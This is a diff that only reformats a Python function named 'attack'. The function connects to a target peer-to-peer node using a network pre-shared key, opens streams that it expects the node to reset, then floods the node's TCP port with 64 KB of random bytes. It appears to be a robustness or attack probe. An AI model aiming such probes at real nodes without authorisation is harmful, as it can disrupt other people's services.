@@ -35,8 +35,11 @@ def varint(n: int) -> bytes:
 
 async def attack(version: str, target: str) -> None:
     key = create_new_key_pair()
-    host = new_host(key_pair=key, sec_opt={PROTOCOL_ID: Transport(key, noise_privkey=create_x25519_key_pair().private_key)},
-                    psk=network_psk(version))
+    host = new_host(
+        key_pair=key,
+        sec_opt={PROTOCOL_ID: Transport(key, noise_privkey=create_x25519_key_pair().private_key)},
+        psk=network_psk(version),
+    )
     info = info_from_p2p_addr(multiaddr.Multiaddr(target))
     async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
         await host.connect(info)
@@ -57,7 +60,10 @@ async def attack(version: str, target: str) -> None:
                     await stream.close()
             except Exception as exc:  # the node may reset the stream: that is the point
                 print(f"{protocol}: {exc!r}", flush=True)
-    host_, port = multiaddr.Multiaddr(target).value_for_protocol("ip4"), multiaddr.Multiaddr(target).value_for_protocol("tcp")
+    host_, port = (
+        multiaddr.Multiaddr(target).value_for_protocol("ip4"),
+        multiaddr.Multiaddr(target).value_for_protocol("tcp"),
+    )
     with socket.create_connection((host_, int(port)), timeout=5) as raw:
         raw.sendall(os.urandom(64 * 1024))
     print("done", flush=True)
